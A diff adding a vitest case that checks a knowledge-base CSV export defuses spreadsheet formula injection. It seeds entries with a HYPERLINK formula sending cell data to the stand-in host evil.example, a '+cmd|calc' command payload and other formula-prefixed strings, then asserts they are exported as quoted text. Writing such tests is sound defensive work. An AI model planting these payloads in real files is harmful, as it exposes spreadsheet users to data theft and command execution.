@@ -4,6 +4,7 @@ import { SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startCascade, type Harness } from '../support/harness.ts';
 import { restClient } from '../support/rest.ts';
+import { parseCsvRows } from '@cascade/shared/csv';
 
 let h: Harness;
 let admin: ReturnType<typeof restClient>;
@@ -70,6 +71,32 @@ describe('the knowledge base, edited live', () => {
     expect(bad.body.error.code).toBe('invalid_payload');
     const after = (await admin.get<{ entries: KbEntry[] }>(`/api/kb?siteId=${siteId}`)).body.entries;
     expect(after.map((e) => e.id)).toEqual(before.map((e) => e.id));
+  });
+
+  it('exports formula-like cells as text, so opening the CSV in a spreadsheet runs nothing', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click for a refund")';
+    const created = await admin.post<{ entry: KbEntry }>(`/api/kb?siteId=${siteId}`, {
+      skill: 'general',
+      related: [],
+      content: { en: { question: formula, phrasings: ['+cmd|calc', '@SUM(1+1)'], answer: '-1+1 then \t=1' } },
+    });
+    expect(created.status).toBe(200);
+    const id = created.body.entry.id;
+    try {
+      const res = await fetch(`${h.url}/api/kb/export?siteId=${siteId}&format=csv`, {
+        headers: { cookie: (await h.login('admin@cedar.example')).cookie },
+      });
+      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+      const rows = parseCsvRows(await res.text());
+      expect(rows.find((r) => r[0] === id)?.slice(3, 6)).toEqual([
+        `'${formula}`,
+        "'+cmd|calc\n@SUM(1+1)",
+        "'-1+1 then \t=1",
+      ]);
+      expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    } finally {
+      await admin.delete(`/api/kb/${id}?siteId=${siteId}`);
+    }
   });
 
   it('shows what the bot would answer and how sure it is', async () => {
